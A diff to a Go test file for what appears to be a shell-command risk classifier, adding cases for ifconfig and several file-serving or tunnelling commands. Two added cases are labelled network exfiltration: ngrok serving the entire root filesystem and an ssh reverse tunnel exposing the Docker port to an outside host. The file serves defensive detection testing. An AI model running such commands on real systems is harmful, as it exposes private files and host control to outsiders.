@@ -32,6 +32,7 @@ func TestNetworkConfig(t *testing.T) {
 		{`ifconfig eth0`, ""},
 		{`ifconfig -s`, ""},
 		{`ifconfig eth0 | grep inet`, ""},
+		{`ifconfig en0 inet`, ""},
 		// ip(8): an object with a verb that changes it.
 		{`ip link set dev eth0 address 00:11:22:33:44:55`, DiskSystem},
 		{`ip link set eth0 up`, DiskSystem},
@@ -480,6 +481,10 @@ func TestServedShells(t *testing.T) {
 		{`socat - UNIX-CONNECT:/var/run/docker.sock`, ""},
 		{`bore local 3000 --to bore.pub`, ""},
 		{`lt --port 3000`, ""},
+		{`ngrok http file:///`, NetworkExfiltration},
+		{`./ngrok http file:///tmp/httpbin/`, ""}, // heldout5's label: a /tmp folder served
+		{`ngrok http file:///home/user/project/site`, ""},
+		{`ssh -R 2375:localhost:2375 user@example.test`, NetworkExfiltration},
 		{`ruby -run -e httpd . -p 8080`, ""},
 		{`caddy file-server --root ./public`, ""},
 		{`rclone serve http ./site --addr :8080`, ""},
